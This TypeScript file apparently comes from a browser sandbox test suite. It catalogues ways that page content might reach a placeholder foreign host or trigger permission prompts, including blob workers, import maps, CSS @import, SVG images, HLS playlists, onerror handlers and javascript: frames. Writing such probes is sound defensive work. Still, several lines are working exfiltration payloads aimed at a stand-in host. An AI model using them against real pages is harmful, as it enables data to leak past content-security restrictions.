// Attempts to send something away by modules, playlists, pictures in memory, and interfaces that browsers have had for a short time.
import { connects, markup, script, type Any, type Targets } from './attempt.js';

const inMemory = `(text, type) => URL.createObjectURL(new Blob([text], { type }))`;

/** A body as text, with `memory(text, type)` for an address in memory. */
const withMemory = (body: string) =>
  Function('to', `const memory = ${inMemory}; ${body}`) as (to: Targets) => unknown;

const modules = [
  script('import map', ({ foreign }) => {
    const map = Object.assign(document.createElement('script'), {
      type: 'importmap',
      textContent: JSON.stringify({ imports: { stolen: `${foreign}?map` } }),
    });
    document.head.append(map);
    return Function('return import("stolen")')();
  }),
  script(
    'module worker from memory that imports',
    withMemory(
      `new Worker(memory('import ' + JSON.stringify(to.foreign + '?static'), 'text/javascript'), { type: 'module' })`,
    ),
  ),
  script(
    'worker from memory in a worker from memory',
    withMemory(
      `const inner = 'fetch(' + JSON.stringify(to.foreign) + '); new WebSocket(' + JSON.stringify(to.socket) + ')';
      const outer = 'new Worker(URL.createObjectURL(new Blob([' + JSON.stringify(inner) + '], { type: "text/javascript" })))';
      new Worker(memory(outer, 'text/javascript'))`,
    ),
  ),
  script(
    'audio worklet from memory that imports',
    withMemory(
      `return new AudioContext().audioWorklet.addModule(memory('import ' + JSON.stringify(to.foreign + '?worklet'), 'text/javascript'))`,
    ),
  ),
  script('WebAssembly by address', ({ foreign }) =>
    WebAssembly.instantiateStreaming(fetch(`${foreign}?wasm`)),
  ),
  markup('handler of an error', `<img src="x:" onerror="new Image().src='FOREIGN?error'">`),
  script('markup with a shadow', ({ foreign }) => {
    const element = document.body.appendChild(document.createElement('div')) as Any;
    element.setHTMLUnsafe(
      `<p><template shadowrootmode="open"><img src="${foreign}?shadow"></template></p>`,
    );
  }),
];

const styles = [
  script('a style sheet replaced by one that imports', ({ foreign }) =>
    new CSSStyleSheet().replace(`@import url("${foreign}?replaced");`),
  ),
  script(
    'a style sheet from memory that imports',
    withMemory(
      `const link = document.createElement('link'); link.rel = 'stylesheet';
      link.href = memory('@import url("' + to.foreign + '?memory"); body { background: url("' + to.foreign + '?body") }', 'text/css');
      document.head.append(link)`,
    ),
  ),
  script('a font of an adopted style sheet', ({ foreign }) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(
      `@font-face { font-family: stolen; src: url("${foreign}?face") } body { font-family: stolen }
      body::before { content: image-set(url("${foreign}?set") 1x) } :root { cursor: url("${foreign}?cursor"), auto }`,
    );
    document.adoptedStyleSheets.push(sheet);
    return document.fonts.load('12px stolen');
  }),
];

const media = [
  script(
    'a playlist in memory whose segments are elsewhere',
    withMemory(
      `const list = '#EXTM3U\\n#EXT-X-TARGETDURATION:9\\n#EXTINF:9,\\n' + to.foreign + '?segment.ts\\n#EXT-X-ENDLIST\\n';
      const video = document.createElement('video');
      video.src = memory(list, 'application/vnd.apple.mpegurl'); video.preload = 'auto';
      document.body.append(video); return video.play()`,
    ),
  ),
  script(
    'a picture in memory that holds others',
    withMemory(
      `const svg = '<svg xmlns="http://www.w3.org/2000/svg"><style>@import url(' + to.foreign + '?style);</style><image href="' +
        to.foreign + '?image"/><foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" src="' +
        to.foreign + '?html"/></foreignObject></svg>';
      const image = new Image(); image.src = memory(svg, 'image/svg+xml'); document.body.append(image);
      return image.decode()`,
    ),
  ),
  script(
    'a drawing in memory as a frame, with a script',
    withMemory(
      `const svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("' + to.foreign + '")</scr' + 'ipt></svg>';
      const frame = document.createElement('iframe'); frame.src = memory(svg, 'image/svg+xml');
      document.body.append(frame)`,
    ),
  ),
  markup(
    'picture of another scheme',
    '<img src="ftp://127.0.0.1/x"><img src="filesystem:FOREIGN">',
  ),
  script('keys of protected media', async ({ foreign }) => {
    const config = [
      {
        initDataTypes: ['cenc'],
        videoCapabilities: [{ contentType: 'video/mp4; codecs="avc1.42E01E"' }],
      },
    ];
    for (const system of ['com.widevine.alpha', 'org.w3.clearkey']) {
      const access = await navigator.requestMediaKeySystemAccess(system, config).catch(() => null);
      const keys = await access?.createMediaKeys();
      await keys?.setServerCertificate(new TextEncoder().encode(foreign)).catch(() => 0);
    }
  }),
];

const services = [
  script('the place of the machine', () => {
    navigator.geolocation.getCurrentPosition(() => undefined);
  }),
  script('camera and microphone', () =>
    navigator.mediaDevices.getUserMedia({ audio: true, video: true }),
  ),
  script('models of the browser', async () => {
    const all = globalThis as Any;
    const languages = { sourceLanguage: 'en', targetLanguage: 'de' };
    for (const name of ['Translator', 'LanguageModel', 'Summarizer', 'LanguageDetector', 'Writer'])
      await Promise.race([
        Promise.resolve(all[name]?.create(languages)).catch(() => 0),
        new Promise((resolve) => setTimeout(resolve, 200)),
      ]);
  }),
  script('devices', async () => {
    const { usb, serial, hid, bluetooth } = navigator as Any;
    await usb?.requestDevice({ filters: [] }).catch(() => 0);
    await serial?.requestPort().catch(() => 0);
    await hid?.requestDevice({ filters: [] }).catch(() => 0);
    await bluetooth?.requestDevice({ acceptAllDevices: true }).catch(() => 0);
  }),
  script('a file chosen for saving', () =>
    (globalThis as Any).showSaveFilePicker({ suggestedName: 'stolen' }),
  ),
  script('access to storage', () => document.requestStorageAccess()),
  script('a window with a source of attribution', ({ foreign }) =>
    window.open('about:blank', '_blank', `attributionsrc=${foreign}?attribution`),
  ),
  markup(
    'frame without credentials',
    '<iframe credentialless allow="*" src="FOREIGN?credentialless"></iframe>',
    connects,
  ),
  markup(
    'frame whose address is a script',
    `<iframe src="javascript:fetch('FOREIGN?frame')"></iframe>`,
  ),
];

export const recent = [...modules, ...styles, ...media, ...services];
